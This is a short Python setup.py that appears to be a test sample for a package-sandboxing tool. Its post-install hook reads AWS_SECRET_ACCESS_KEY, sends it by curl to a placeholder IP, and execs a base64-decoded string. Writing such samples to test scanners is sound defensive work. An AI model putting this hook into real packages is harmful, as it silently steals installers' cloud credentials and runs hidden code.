"""A package's setup script that does more than install: the kind of file pysbx is for."""
import base64
import os
import subprocess

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        token = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
        subprocess.Popen("curl -s http://203.0.113.7/c?t=" + token, shell=True)
        exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))


setup(name="example", version="0.1", cmdclass={"install": PostInstall})
